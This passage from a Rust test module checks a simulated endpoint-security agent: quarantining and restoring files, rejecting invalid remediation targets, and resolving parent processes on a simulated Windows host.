        e.remediate("QUARANTINE_FILE", &file).unwrap();
        assert!(!e.files.contains_key(hosts), "moved out of its place");
        let quarantined = e.quarantine[0].guid.clone();
        assert_ne!(quarantined, file);
        // The original File element is no target any more; the quarantined one is.
        assert_eq!(e.remediate("UNQUARANTINE_FILE", &file).unwrap_err().0, "INVALID_ARGUMENT");
        e.remediate("UNQUARANTINE_FILE", &quarantined).unwrap();
        assert!(e.files.contains_key(hosts) && e.quarantine.is_empty());
        // A file only on the disk has no element: the console cannot quarantine it.
        let unindexed = e.files["c:\\windows\\win.ini"].guid.clone();
        assert_eq!(e.remediate("QUARANTINE_FILE", &unindexed).unwrap_err().0, "INVALID_ARGUMENT");
    }

    #[test]
    fn parents_are_the_runs_alive_when_the_child_started() {
        let e = Endpoint::new("CR-WS-0001", 7, SimOs::Windows);
        let by = |pid: u64, name: &str| {
            e.processes.iter().find(|p| p.pid == pid && p.name == name).unwrap()
        };
        assert_eq!(e.parent_of(by(700, "lsass.exe")).unwrap().name, "wininit.exe");
        let smss = e.parent_of(by(548, "wininit.exe")).unwrap();
        assert_eq!((smss.name.as_str(), smss.ended_ms.is_some()), ("smss.exe", true));
        // notepad (pid 4242) is explorer's child; the ended cmd.exe of the same pid is no one's.
        assert_eq!(e.parent_of(by(4242, "notepad.exe")).unwrap().name, "explorer.exe");
        assert!(e.parent_of(by(4, "System")).is_none());
    }
}
